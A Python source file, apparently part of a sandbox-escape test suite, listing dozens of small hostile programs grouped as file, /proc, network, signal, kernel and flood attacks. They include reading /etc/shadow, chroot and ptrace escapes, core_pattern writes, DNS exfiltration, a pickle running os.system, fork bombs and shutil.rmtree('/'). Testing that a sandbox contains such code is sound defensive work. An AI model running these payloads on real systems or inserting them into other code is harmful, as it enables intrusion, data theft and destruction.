"""The programs. Each defines ``main(given)`` and returns a true value if it got somewhere.

A program that raises, is killed or runs out of time has failed cleanly; one that returns nothing
was harmless. What it did outside is told by the prey. ``given`` names the prey; see ``prey.py``.
"""

from codex32_escapes.granted import ASK
from codex32_escapes.granted import PROGRAMS as GRANTED
from codex32_escapes.words import CALLS, WORDS

PRELUDE = """
import ctypes, errno, os, signal, socket, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *arguments):
    return libc.syscall(ctypes.c_long(number), *arguments)
"""
#: What a program may at most; small, so that floods end soon.
LIMITS = {
    "timeout_seconds": 3.0,
    "memory_bytes": 256 * 1024 * 1024,
    "cpu_seconds": 1.0,
    "disk_bytes": 8 * 1024 * 1024,
    "max_output_bytes": 100_000,
}

FILES = {
    "reads a file by its name": "return open(given['file']).read()",
    "reads the shadow file": "return open('/etc/shadow').read()",
    "reads the worker's database": "return open(given['database'], 'rb').read(16)",
    "lists the root's home": (
        "home = '/' + 'root'\n"
        " return [n for n in os.listdir(home) if not os.__file__.startswith(f'{home}/{n}')]"
    ),
    "lists the folder of the prey": "return os.listdir(given['folder'])",
    "lists another execution's folder": "return os.listdir(given['other'])",
    "overwrites a file": "return open(given['file'], 'w').write('gone')",
    "appends to a file": "return open(given['file'], 'a').write('more')",
    "empties a file": "os.truncate(given['file'], 0)\n return 1",
    "empties a file as it reads it": "os.open(given['file'], os.O_RDONLY | os.O_TRUNC)\n return 1",
    "deletes a file": "os.remove(given['file'])\n return 1",
    "renames a file": "os.rename(given['file'], given['file'] + '.old')\n return 1",
    "puts its own over a file": (
        "open('mine', 'w').write('x')\n os.rename('mine', given['file'])\n return 1"
    ),
    "opens a file to all": "os.chmod(given['file'], 0o777)\n return 1",
    "takes over a file": "os.chown(given['file'], os.getuid(), os.getgid())\n return 1",
    "changes the times of a file": "os.utime(given['file'], (1, 1))\n return 1",
    "marks a file": "os.setxattr(given['file'], 'user.x', b'1')\n return 1",
    "makes a folder beside the prey": "os.mkdir(given['folder'] + '/new')\n return 1",
    "changes the standard library": "return open(os.__file__, 'a').write('# x')",
    "opens the standard library to all": "os.chmod(os.__file__, 0o666)\n return 1",
    "follows its own symbolic link": (
        "os.symlink(given['file'], 'link')\n return open('link').read()"
    ),
    "writes through a symbolic link": (
        "os.symlink(given['file'], 'link')\n return open('link', 'w').write('gone')"
    ),
    "links a file to itself": "os.link(given['file'], 'hard')\n return open('hard').read()",
    "climbs up": "return open('../' * 40 + given['file']).read()",
    "climbs up from a descriptor": (
        "fd = os.open('.', os.O_RDONLY)\n"
        " return os.read(os.open('../' * 40 + given['file'][1:], os.O_RDONLY, dir_fd=fd), 9)"
    ),
    "opens a file by its handle": (
        "handle = ctypes.create_string_buffer(struct.pack('Ii', 128, 0) + bytes(128))\n"
        " mount = ctypes.c_int()\n"
        " libc.name_to_handle_at(-100, given['file'].encode(), handle, ctypes.byref(mount), 0)\n"
        " root = os.open('/', os.O_RDONLY)\n"
        " return libc.open_by_handle_at(root, handle, 0) >= 0"
    ),
    "leaves by chroot": (
        "os.mkdir('jail')\n fd = os.open('.', os.O_RDONLY)\n os.chroot('jail')\n os.fchdir(fd)\n"
        " [os.chdir('..') for _ in range(50)]\n os.chroot('.')\n"
        " return open(given['file']).read()"
    ),
    "mounts over": "return libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0",
    "binds the root": "return libc.mount(b'/', b'/tmp', None, 4096, None) == 0",
    "makes its root writable": "return libc.mount(None, b'/', None, 32 | 4096, None) == 0",
    "takes a mount away": "return libc.umount2(b'/proc', 2) == 0 or libc.umount2(b'/dev', 2) == 0",
    "opens a tree of mounts": "return call(428, -100, b'/', 1) >= 0 or call(430, b'proc', 0) >= 0",
    "makes a device": "os.mknod('disk', 0o60600, os.makedev(254, 0))\n return 1",
    "reads the disk": "return [os.open(d, os.O_RDONLY) for d in ('/dev/vda', '/dev/sda')]",
    "reads the kernel's memory": "return open('/dev/mem', 'rb').read(1)",
    "watches others' files": (
        "fd = libc.inotify_init()\n"
        " return fd >= 0 and libc.inotify_add_watch(fd, given['folder'].encode(), 0xfff) >= 0"
    ),
}
PROC = {
    "reads the worker's environment": (
        "return given['word'] in open(f\"/proc/{given['pid']}/environ\").read()"
    ),
    "reads init's environment": "return open('/proc/1/environ').read()",
    "reads its parent's environment": (
        "return given['word'] in open(f'/proc/{os.getppid()}/environ').read()"
    ),
    "has the worker's environment": "return given['word'] in str(os.environ)",
    "reads how it was started": "return 'CODEX32' in open('/proc/self/environ').read()",
    "lists processes": (
        "return [p for p in os.listdir('/proc') if p.isdigit() and int(p) not in\n"
        "  (1, os.getpid(), os.getppid())]"
    ),
    "follows the worker's root": "return os.listdir('/proc/%d/root' % given['pid'])",
    "follows its parent's root": "return given['file'] and open(\n"
    "  f\"/proc/{os.getppid()}/root{given['file']}\").read()",
    "follows the worker's folder": "return os.listdir(f\"/proc/{given['pid']}/cwd\")",
    "opens the worker's descriptors": (
        "return [os.open(f\"/proc/{given['pid']}/fd/{n}\", os.O_RDONLY) for n in range(9)]"
    ),
    "uses descriptors that were left": (
        "return [n for n in range(4, 300) if libc.fcntl(n, 1, 0) >= 0]"
    ),
    "lists a folder by a left descriptor": (
        "return [os.listdir(f'/proc/self/fd/{n}/..') for n in range(3, 20)]"
    ),
    "writes the worker's memory": "open(f\"/proc/{given['pid']}/mem\", 'wb')\n return 1",
    "writes its parent's memory": "open(f'/proc/{os.getppid()}/mem', 'wb')\n return 1",
    "changes settings of the kernel": (
        "return open('/proc/sys/kernel/core_pattern', 'w').write('|/tmp/x')"
    ),
    "rings the magic key": "return open('/proc/sysrq-trigger', 'w').write('s')",
    "has the worker killed first": (
        "return open(f\"/proc/{given['pid']}/oom_score_adj\", 'w').write('1000')"
    ),
    "writes to cgroups": (
        "for folder in ('/sys/fs/cgroup', '/sys/fs/cgroup/unified'):\n"
        "  if os.path.isdir(folder):\n"
        "   os.mkdir(folder + '/escape')\n"
        "   return 1"
    ),
}
NETWORK = {
    "connects to Redis": "return socket.create_connection(('127.0.0.1', given['redis']), 2)",
    "connects to PostgreSQL": (
        "return socket.create_connection(('127.0.0.1', given['postgres']), 2)"
    ),
    "connects to the API": "return socket.create_connection(('localhost', given['api']), 2)",
    "connects over IPv6": "return socket.create_connection(('::1', given['redis']), 2)",
    "connects to any address": "return socket.create_connection(('0.0.0.0', given['redis']), 2)",
    "asks for metadata": "return socket.create_connection(('169.254.169.254', 80), 2)",
    "connects to the world": "return socket.create_connection(('1.1.1.1', 443), 2)",
    "asks a name server": (
        "import urllib.request\n return urllib.request.urlopen('http://example.com', timeout=2)"
    ),
    "sends a datagram": (
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(\n"
        "  b'x', ('127.0.0.1', given['datagrams']))"
    ),
    "tells through DNS": (
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        " s.sendto(b'secret.example.com', ('8.8.8.8', 53))\n return 1"
    ),
    "makes a raw socket": "return socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)",
    "makes a packet socket": "return socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
    "speaks netlink": "return socket.socket(16, socket.SOCK_RAW, 0)",
    "speaks vsock": "return socket.socket(40, socket.SOCK_STREAM)",
    "asks the kernel's crypto": "return socket.socket(38, socket.SOCK_SEQPACKET, 0)",
    "speaks bluetooth": "return socket.socket(31, socket.SOCK_RAW, 1)",
    "connects to a named socket": (
        "socket.socket(socket.AF_UNIX).connect(given['named'])\n return 1"
    ),
    "connects to an abstract socket": (
        "socket.socket(socket.AF_UNIX).connect(chr(0) + given['word'])\n return 1"
    ),
    "sends to a named socket from a pair": (
        "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
        " a.sendto(b'x', given['letters'])"
    ),
    "raises another device": (
        "import fcntl\n s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        " fcntl.ioctl(s, 0x8914, struct.pack('16sH14x', b'eth0', 1))\n return 1"
    ),
}
OTHERS = {
    "kills the worker": "os.kill(given['pid'], 0)\n os.kill(given['pid'], 9)\n return 1",
    "stops the worker": "os.kill(given['pid'], signal.SIGSTOP)\n return 1",
    "kills its parent": "os.kill(os.getppid(), 9)",
    "stops its parent": "os.kill(os.getppid(), signal.SIGSTOP)\n time.sleep(0.2)",
    "kills the victim": "os.kill(given['victim'], 9)\n return 1",
    "kills everybody": "os.kill(-1, 9)",
    "kills the zygote's group": "os.killpg(os.getpgid(os.getppid()), 9)",
    "signals by a descriptor": (
        "fd = os.pidfd_open(given['pid'])\n signal.pidfd_send_signal(fd, 9)\n return 1"
    ),
    "queues a signal": (
        "info = ctypes.create_string_buffer(struct.pack('iii', 9, 0, -1) + bytes(116))\n"
        " return libc.syscall(129 if os.uname().machine == 'x86_64' else 138,\n"
        "  given['pid'], 9, info) == 0"
    ),
    "has a signal sent by a pipe": (
        "import fcntl\n r, w = os.pipe()\n"
        " libc.fcntl(r, 8, given['victim'])\n libc.fcntl(r, 10, 9)\n"
        " fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)\n os.write(w, b'x')"
    ),
    "attaches to the worker": "return libc.ptrace(0x4206, given['pid'], 0, 0) == 0",
    "attaches to its parent": "return libc.ptrace(0x4206, os.getppid(), 0, 0) == 0",
    "reads another's memory": (
        "buffer = ctypes.create_string_buffer(8)\n"
        " v = struct.pack('PN', ctypes.addressof(buffer), 8)\n"
        " return libc.process_vm_readv(given['pid'], v, 1, v, 1, 0) > 0"
    ),
    "fetches a descriptor of another": (
        "fd = call(434, given['pid'], 0)\n return call(438, fd, 0, 0) >= 0"
    ),
    "slows the worker": ("os.setpriority(os.PRIO_PROCESS, given['pid'], 19)\n return 1"),
    "slows its user": "os.setpriority(os.PRIO_USER, 0, 19)",
    "schedules the worker": (
        "os.sched_setscheduler(given['pid'], os.SCHED_IDLE, os.sched_param(0))\n return 1"
    ),
    "pins the worker": "os.sched_setaffinity(given['pid'], {0})\n return 1",
    "limits the worker": (
        "import resource\n"
        " resource.prlimit(given['pid'], resource.RLIMIT_NOFILE, (3, 3))\n return 1"
    ),
    "widens its own limits": (
        "import resource\n resource.setrlimit(resource.RLIMIT_AS, (-1, -1))\n return 1"
    ),
    "types into a terminal": (
        "import fcntl\n fcntl.ioctl(os.open('/dev/tty', os.O_RDWR), 0x5412, b'x')\n return 1"
    ),
    "leaves a segment of memory": "return libc.shmget(0x51ab, 4096, 0o1777) >= 0",
    "leaves a queue of messages": "return libc.msgget(0x51ab, 0o1777) >= 0",
    # Whether there is one or not, it must not be asked.
    **{
        f"asks for another's {what}": f"{asked}\n return ctypes.get_errno() not in (1, 13)"
        for what, asked in {
            "segment of memory": "libc.shmat(0x7fffffff, None, 0)",
            "messages": "libc.msgrcv(0x7fffffff, None, 0, 0, 0)",
            "semaphores": "libc.semctl(0x7fffffff, 0, 12)",
            "posix queue": "libc.mq_unlink(b'/codex32-escape')",
        }.items()
    },
    "lets a socket linger": (
        "socket.socket().setsockopt(socket.SOL_SOCKET, 13, struct.pack('ii', 1, 25))\n return 1"
    ),
    "takes the machine's aio": "return libc.syscall(206, 1, ctypes.byref(ctypes.c_ulong())) == 0",
}
KERNEL = {
    "makes namespaces": "return libc.unshare(0x10000000) == 0 or libc.unshare(0x20000) == 0",
    "joins namespaces": "return libc.setns(os.open('/proc/1/ns/mnt', os.O_RDONLY), 0) == 0",
    "forks into namespaces": "return call(56, 0x10000000 | 17, 0, 0, 0, 0) > 0",
    "forks by the newer call": (
        "args = struct.pack('QQQQQQQQ', 0x10000000, 0, 0, 0, 17, 0, 0, 0)\n"
        " return call(435, args, len(args)) >= 0"
    ),
    "becomes root": "os.setuid(0)\n return os.getuid() == 0 and os.setgroups([]) is None",
    "regains capabilities": (
        "header = struct.pack('Ii', 0x20080522, 0)\n"
        " return libc.capset(header, struct.pack('IIIIII', -1 & 0xffffffff, -1 & 0xffffffff,\n"
        "  0, 0, 0, 0)) == 0"
    ),
    "runs a setuid program": (
        "for path in ('/usr/bin/su', '/bin/su', '/usr/bin/sudo', '/usr/bin/mount'):\n"
        "  if os.path.exists(path):\n"
        "   os.execv(path, [path, '--version'])"
    ),
    "makes itself setuid": (
        "open('tool', 'w').write('x')\n os.chmod('tool', 0o4755)\n"
        " return os.getuid() == 0 and os.stat('tool').st_mode & 0o4000 and given['apart']"
    ),
    "uses io_uring": "return call(425, 8, ctypes.create_string_buffer(120)) >= 0",
    "handles page faults": "return call(323 if os.uname().machine == 'x86_64' else 282, 1) >= 0",
    "loads a program into the kernel": (
        "return call(321 if os.uname().machine == 'x86_64' else 280, 0, bytes(72), 72) >= 0"
    ),
    "counts events of the processor": (
        "return call(298 if os.uname().machine == 'x86_64' else 241,\n"
        "  struct.pack('II', 1, 112) + bytes(104), 0, -1, -1, 0) >= 0"
    ),
    "reads keys": ("return call(250 if os.uname().machine == 'x86_64' else 219, 0, -3, 1) >= 0"),
    "loads a module": (
        "return call(175 if os.uname().machine == 'x86_64' else 105, b'', 0, b'') == 0"
    ),
    "sets the clock": "time.clock_settime(time.CLOCK_REALTIME, time.time())\n return 1",
    "changes its kind": "return libc.personality(0x0040000) >= 0",
    "uses calls of another machine": (
        "import mmap\n"
        " if os.uname().machine != 'x86_64': return None\n"
        " code = bytes.fromhex('b814000000cd80c3')\n"
        " page = mmap.mmap(-1, 4096, prot=7)\n page.write(code)\n"
        " address = ctypes.addressof(ctypes.c_char.from_buffer(page))\n"
        " return ctypes.CFUNCTYPE(ctypes.c_int)(address)()"
    ),
    "uses calls of a third machine": "return call(0x40000000 + 39) >= 0",
    "uses calls that are newer": "return call(463) >= 0 or call(600) >= 0",
    "runs a file in memory": (
        "fd = os.memfd_create('x')\n os.write(fd, open(sys.executable, 'rb').read())\n"
        " os.execve(fd, ['python', '-c', f\"open({given['file']!r}, 'w')\"], {})"
    ),
    "preloads a library": (
        "os.environ['LD_PRELOAD'] = given['file']\n"
        " os.execv(sys.executable, [sys.executable, '-c', f\"open({given['file']!r}, 'w')\"])"
    ),
    "crashes with a dump": "os.chdir('/tmp')\n os.abort()",
    "renames the machine": "socket.sethostname('mine')\n return 1",
    "reads the kernel's log": "return libc.klogctl(3, ctypes.create_string_buffer(99), 99) > 0",
    "restarts the machine": "return libc.reboot(0x89abcdef) == 0",
}
FLOODS = {
    "forks without end": "while True: os.fork()",
    "starts processes": (
        "import subprocess\n return subprocess.run([sys.executable, '-c', 'pass']).returncode == 0"
    ),
    "starts threads without end": (
        "import threading\n threading.stack_size(32768)\n"
        " while True: threading.Thread(target=time.sleep, args=(9,), daemon=True).start()"
    ),
    "leaves a session behind": (
        "if os.fork() == 0:\n  os.setsid()\n  time.sleep(100)\n return None"
    ),
    "leaves threads behind": (
        "import threading\n threading.Thread(target=time.sleep, args=(99,)).start()"
    ),
    "fills the disk": (
        "with open('big', 'wb') as file:\n  while True: file.write(bytes(1 << 20))"
    ),
    "fills the disk with many": (
        "for n in range(100):\n"
        "  with open(f'big{n}', 'wb') as file: file.write(bytes(1 << 20))\n"
        " return given['apart']"
    ),
    "fills shared memory": (
        "with open('/dev/shm/big', 'wb') as file:\n  while True: file.write(bytes(1 << 20))"
    ),
    "makes files without end": "n = 0\n while True:\n  open(f'f{n}', 'w').close()\n  n += 1",
    "makes folders without end": "while True:\n  os.mkdir('d')\n  os.chdir('d')",
    "eats memory": "kept = []\n while True: kept.append(bytearray(1 << 24))",
    "eats memory outside its heap": (
        "import mmap\n kept = []\n while True: kept.append(mmap.mmap(-1, 1 << 26))"
    ),
    "opens files without end": "kept = []\n while True: kept.append(os.open('.', os.O_RDONLY))",
    "never ends": "while True: pass",
    "ignores signals": (
        "for n in range(1, 65):\n"
        "  try: signal.signal(n, signal.SIG_IGN)\n"
        "  except (OSError, ValueError): pass\n"
        " while True: time.sleep(1)"
    ),
    "floods its output": "while True: os.write(1, b'x' * 65536)",
    "floods with lines": "while True: os.write(2, b'y\\n' * 32768)",
    "floods its log": ("from codex32_step import log\n while True: log('x' * 1000, y='z')"),
    "floods with questions": (
        "from codex32_step import secret\n"
        " while True:\n  try: secret('TOKEN')\n  except Exception: pass"
    ),
    "starts bots without end": (
        "from codex32_step import call\n"
        " while True:\n  try: call('other', n=1)\n  except Exception: pass"
    ),
    "asks without listening": (
        "frame = b'Q' + struct.pack('>I', 13) + b'[\"secret\",{}]'[:13]\n"
        " while True: os.write(3, frame)"
    ),
    "hands descriptors over": (
        "s = socket.socket(fileno=3)\n"
        " while True: socket.send_fds(s, [b'T' + struct.pack('>I', 2) + b'[]'], [1, 2])"
    ),
    "answers with garbage": (
        "os.write(3, b'A' + struct.pack('>I', 9) + b'\\xff{[garbage')\n time.sleep(1)"
    ),
    "answers with a lie": "os.write(3, b'A' + struct.pack('>I', 999_999_999))\n time.sleep(1)",
    "answers with a pickle": (
        "class Evil:\n  def __reduce__(self): return (os.system, ('id',))\n return Evil()"
    ),
    "answers with a huge number": "return 10 ** 10_000_000",
    "answers with a deep list": (
        "value = []\n for _ in range(100_000): value = [value]\n return value"
    ),
    "answers with too much": "return 'x' * 10_000_000",
    "answers with a deep text": (
        "text = b'{\"output\":' + b'[' * 40_000 + b']' * 40_000 + b'}'\n"
        " os.write(3, b'A' + struct.pack('>I', len(text)) + text)\n time.sleep(1)"
    ),
    "recurses": "return main(given)",
    "recurses in C": "sys.setrecursionlimit(10**9)\n return main(given)",
    "hangs in a pattern": "import re\n return re.match('(a+)+$', 'a' * 60 + 'b')",
    "multiplies without end": "n = 3\n while True: n = n * n",
    "prints bombs": "print('\\x1b[2J\\x00\\u202e' + '\\u0301' * 20_000 + '\\ud800' * 100)",
    "sets timers": (
        "for n in range(10_000): signal.setitimer(signal.ITIMER_REAL, 1e-6, 1e-6)\n"
        " while True: pass"
    ),
    "locks memory": ("return libc.mlockall(3) == 0 and len(bytearray(1 << 27))\n"),
    "makes pipes without end": "kept = []\n while True: kept.append(os.pipe())",
    "fills sockets without end": (
        "kept = []\n"
        " while True:\n"
        "  kept.append(socket.socketpair())\n"
        "  kept[-1][0].setblocking(False)\n"
        "  try:\n"
        "   while True: kept[-1][0].send(bytes(65536))\n"
        "  except BlockingIOError: pass"
    ),
    "sends descriptors to itself without end": (
        "ours, theirs = socket.socketpair()\n"
        " while True: socket.send_fds(ours, [b'x'], [ours.fileno(), theirs.fileno()] * 100)"
    ),
    "fills sockets that are under way": (
        "kept, total = [], 0\n"
        " try:\n"
        "  while True:\n"
        "   kept.append(socket.socketpair())\n"
        "   try:\n"
        "    while True:\n"
        "     pair = socket.socketpair()\n"
        "     for each in pair:\n"
        "      each.setblocking(False)\n"
        "      try:\n"
        "       while True: total += each.send(bytes(65536))\n"
        "      except BlockingIOError: pass\n"
        "     socket.send_fds(kept[-1][0], [b'x'], [each.detach() for each in pair])\n"
        "   except OSError: pass\n"
        " except OSError: pass\n"
        " return total > 400 << 20"
    ),
    "fills connections without end": (
        "kept, total = [], 0\n"
        " try:\n"
        "  while True:\n"
        "   server = socket.create_server(('127.0.0.1', 0))\n"
        "   kept += [socket.create_connection(server.getsockname()), server.accept()[0]]\n"
        "   for each in kept[-2:]: each.setblocking(False)\n"
        " except OSError: pass\n"
        " for _ in range(10):\n"
        "  time.sleep(0.05)\n"
        "  for each in kept:\n"
        "   try:\n"
        "    while True: total += each.send(bytes(65536))\n"
        "   except OSError: pass\n"
        " return total > 400 << 20"
    ),
    **{
        f"fills {what} that nobody accepts": (
            "kept, total, end = [], 0, time.monotonic() + 2\n"
            " while time.monotonic() < end:\n"
            f"  server = socket.socket({family})\n"
            f"  server.bind({address})\n"
            "  server.listen(4096)\n"
            "  kept.append(server)\n"
            "  for _ in range(4096):\n"
            f"   line = socket.socket({family})\n"
            "   line.settimeout(0.1)\n"
            "   try: line.connect(server.getsockname())\n"
            "   except OSError: break\n"
            "   line.setblocking(False)\n"
            "   try:\n"
            "    while True: total += line.send(bytes(65536))\n"
            "   except OSError: line.close()\n"
            "   if total > 400 << 20: return total"
        )
        for what, family, address in (
            ("connections", "socket.AF_INET", "('127.0.0.1', 0)"),
            ("named connections", "socket.AF_UNIX", "f'/tmp/served{len(kept)}'"),
        )
    },
    "fills named letters that nobody reads": (
        "kept, total = [], 0\n"
        " try:\n"
        "  while True:\n"
        "   kept.append(socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM))\n"
        "   kept[-1].bind(f'/tmp/read{len(kept)}')\n"
        "   for _ in range(12):\n"
        "    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as letters:\n"
        "     letters.setblocking(False)\n"
        "     try: total += letters.sendto(bytes(200_000), f'/tmp/read{len(kept)}')\n"
        "     except BlockingIOError: break\n"
        " except OSError: pass\n"
        " return total > 400 << 20"
    ),
    "has a module of the kernel loaded": (
        "return [p for p in (33, 132, 136, 115, 262) if libc.socket(2, 1, p) >= 0]"
    ),
    "widens a socket": (
        "s = socket.socketpair()[0]\n"
        " s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)\n return 1"
    ),
    "widens a pipe": "return libc.fcntl(os.pipe()[1], 1031, 1 << 20) > 65536",
    "sets more timers than it may": (
        "n, timer = 0, ctypes.c_void_p()\n"
        " while n < 5000 and libc.timer_create(1, None, ctypes.byref(timer)) == 0: n += 1\n"
        " return n > 64"
    ),
    "takes its user's watches": "return libc.inotify_init1(0) >= 0",
    "lists what others share": "return os.listdir('/dev/shm') + os.listdir('/tmp')",
    "writes where packages would be": (
        "folder = os.path.dirname(os.__file__) + '/site-packages'\n"
        " return open(folder + '/planted.py', 'w').write('x')"
    ),
    "answers that it was refused": (
        "os.write(3, b'R' + struct.pack('>I', 4) + b'\"no\"')\n time.sleep(0.1)"
    ),
    "says without end that it begins": "while True: os.write(3, b'B' + bytes(4))",
    "closes all it has": "os.closerange(0, 1000)",
    "deletes all it can": "import shutil\n shutil.rmtree('/', ignore_errors=True)",
}
#: Code that acts while it is imported.
WHOLE = {
    "acts while it is imported": "open({file!r}, 'w').write('gone')\ndef main(given): ...",
    "hides behind a decorator": (
        "def now(f):\n    open({file!r}, 'w').write('gone')\n    return f\n"
        "@now\ndef main(given): ..."
    ),
    "patches what calls it": (
        "import json, sys\n"
        "json.dumps = lambda *a, **k: '{{\"output\": \"' + open({file!r}).read() + '\"}}'\n"
        "def main(given): return 0"
    ),
    "walks the frames": (
        "import sys\n"
        "def main(given):\n"
        "    frame, found = sys._getframe(), []\n"
        "    while frame:\n"
        "        found += [k for k in frame.f_locals if given['word'] in str(frame.f_locals[k])\n"
        "                  and k not in ('given', 'order', 'args', 'frame', 'found', 'request')]\n"
        "        frame = frame.f_back\n"
        "    return found\n"
    ),
    "is no text": "\x00def main(given): ...",
}

_GROUPS = (FILES, PROC, NETWORK, OTHERS, KERNEL, FLOODS, CALLS, WORDS, GRANTED)
NAMES = tuple(name for group in (*_GROUPS, WHOLE) for name in group)


def code(name: str, given: dict[str, object]) -> str:
    """The program of this name."""
    if name in WHOLE:
        return WHOLE[name].format(**given)
    body = next(group[name] for group in _GROUPS if name in group)
    # Bodies are written so that their second line on is indented already.
    lines = " " + "\n".join(body.splitlines()) + "\n"
    more = ASK if name in GRANTED else ""
    return f"{PRELUDE}{more}\ndef main(given):\n{lines}"
